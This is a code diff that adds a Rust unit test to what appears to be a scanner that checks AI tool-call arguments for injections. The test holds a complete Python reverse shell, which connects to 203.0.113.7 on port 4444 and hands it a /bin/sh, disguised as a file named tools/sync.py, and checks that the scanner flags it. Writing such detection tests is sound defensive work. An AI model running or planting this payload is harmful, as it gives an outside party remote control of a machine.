@@ -71,6 +71,30 @@ fn a_secret_in_arguments_is_found_and_redactable() {
 }
 
 #[test]
+fn hostile_code_in_an_argument_is_an_injection_with_its_category_and_path() {
+    let s = scanner();
+    let shell = "import socket, os, pty\ns = socket.socket()\ns.connect((\"203.0.113.7\", 4444))\n\
+                 os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
+                 pty.spawn(\"/bin/sh\")\n";
+    let args = json!({"path": "tools/sync.py", "content": shell});
+    let r = s.scan_json(Surface::ToolArguments, &args);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| &*f.rule_id == "code.reverse-shell")
+        .expect("the reverse shell is found");
+    assert_eq!(f.category, Category::HostileCode);
+    assert_eq!(f.category.name(), "hostile_code");
+    assert_eq!(f.severity, Severity::High);
+    assert_eq!(f.json_path, "/content");
+    assert!(r.is_injection(Severity::High));
+    // The same file without the descriptor plumbing is a local terminal.
+    let local = json!({"content": "import pty\npty.spawn(\"/bin/sh\")\n"});
+    let r = s.scan_json(Surface::ToolArguments, &local);
+    assert!(!r.is_injection(Severity::Medium), "{:?}", ids(&r));
+}
+
+#[test]
 fn base64_wrapped_injections_are_decoded_and_flagged() {
     use base64::Engine as _;
     let s = scanner();
